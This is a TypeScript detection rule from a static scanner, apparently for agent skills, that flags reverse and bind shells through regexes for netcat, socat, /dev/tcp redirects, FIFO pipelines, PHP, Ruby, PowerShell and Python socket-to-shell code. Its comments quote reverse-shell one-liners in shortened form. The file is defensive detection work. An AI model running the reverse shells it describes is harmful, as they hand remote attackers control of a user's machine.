import { argumentStrings, type Call, type CodeIndex } from "../../reading/code/code-index";
import type { ShellCommand } from "../../reading/shell/shell-commands";
import type { CodeUnit, ShellUnit } from "../../reading/units";
import { HIGH_STRONG, HIGH_WEAK } from "../../grade";
import type { Rule } from "../../rule";
import { lineText, pipelineText, reportPlaces, type Place } from "../../match-places";
import { isShell } from "../../reading/shell/shells";
import { isSpawningCall } from "../../vocabulary/network-calls";

const CODE = "malicious.reverse_shell";

/** Sees shells that are tied to a network connection. */
export const reverseShell: Rule = {
  id: "reverse-shell",
  title: "A shell is handed to somebody on the network",
  why: "A reverse or bind shell gives whoever is at the other end the rights of the person who runs the skill.",
  remedy: "Remove it. There is no other use for it in a skill.",
  codes: [CODE],
  check(context) {
    const places = context.units.shell.flatMap(checkShell).concat(context.units.code.flatMap(checkCode));
    return reportPlaces(reverseShell, places);
  },
};

const ONE_LINERS =
  /\bfsockopen\s*\([^)\n]{1,120}\)[^\n]{0,200}\b(?:exec|system|shell_exec|proc_open)\b|\bTCPSocket\.(?:open|new)\s*\([^)\n]{1,120}\)[^\n]{0,200}\bexec\b|\buse\s+Socket\b[^\n]{0,400}\bexec\s*[{(]|New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient[^\n]{0,600}(?:iex|Invoke-Expression)\b/i;

function checkShell(unit: ShellUnit): Place[] {
  const message = "A shell is connected to the network.";
  const places: Place[] = unit.script.pipelines.flatMap(({ commands, start }) => {
    const found = commands.some(isShellSocket) || isFifoShell(commands);
    return found
      ? [{ unit, offset: start, grade: HIGH_STRONG, code: CODE, message, evidence: pipelineText(commands) }]
      : [];
  });
  const line = ONE_LINERS.exec(unit.text);
  if (line !== null)
    places.push({ unit, offset: line.index, grade: HIGH_STRONG, code: CODE, message, evidence: line[0] });
  return places;
}

/** `bash -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…`, `nc -e /bin/sh`, `socat … EXEC:sh`. */
function isShellSocket(command: ShellCommand): boolean {
  const text = command.words.map((word) => word.text).join(" ");
  const socket = command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
  if (socket && (isShell(command.name) || command.name === "exec" || command.name === "")) return true;
  if (/^(?:nc|ncat|netcat)(?:\.traditional)?$/.test(command.name))
    return /\s-[a-z]*[ec]\s+\S*(?:sh|cmd|powershell)\b|--(?:sh-)?exec\b/i.test(text);
  return command.name === "socat" && /\b(?:exec|system):['"]?\S*(?:sh|cmd)\b/i.test(text);
}

/** `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`. */
function isFifoShell(commands: readonly ShellCommand[]): boolean {
  const shell = commands.findIndex((command) => isShell(command.name));
  const socket = commands.findIndex((command) => /^(?:nc|ncat|netcat|telnet|openssl)$/.test(command.name));
  return (
    shell !== -1 &&
    socket > shell &&
    commands.some(
      (command) =>
        command.words.some((word) => word.text === "-i") ||
        command.redirects.some(({ operator }) => operator === ">"),
    )
  );
}

/** A socket, and a shell whose input and output are tied to it. */
function checkCode(unit: CodeUnit): Place[] {
  const { index, text } = unit;
  const has = (pattern: RegExp) =>
    index.references.some(({ names }) => names.some((name) => pattern.test(name)));
  const connects = has(
    /^(?:socket\.(?:socket|create_connection)(?:\(\)\.connect(?:_ex)?)?|(?:net|tls)\.(?:connect|createConnection|createServer|Socket))$/,
  );
  if (!connects) return [];
  const shell = index.references.find(
    ({ names, call }) => call !== null && isSpawningCall(names) && spawnsShell(index, call),
  );
  if (shell === undefined) return [];
  const tied =
    has(/^os\.dup2$|\.fileno$/) ||
    has(/\.pipe$/) ||
    has(/^pty\.spawn$/) ||
    /std(?:in|out)\s*=\s*\w+(?:\.fileno\(\))?/.test(text);
  const offset = index.tokens[shell.token]?.start ?? 0;
  const message = tied
    ? "A shell's input and output are tied to a socket."
    : "The same code opens a socket and starts a shell.";
  return [
    {
      unit,
      offset,
      grade: tied ? HIGH_STRONG : HIGH_WEAK,
      code: CODE,
      message,
      evidence: lineText(text, offset),
    },
  ];
}

const SHELL_PROGRAM =
  /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh(?:\s+-i)?$|^cmd(?:\.exe)?$|^powershell(?:\.exe)?$/i;

function spawnsShell(index: CodeIndex, call: Call): boolean {
  return argumentStrings(index, call).some((text) => SHELL_PROGRAM.test(text));
}
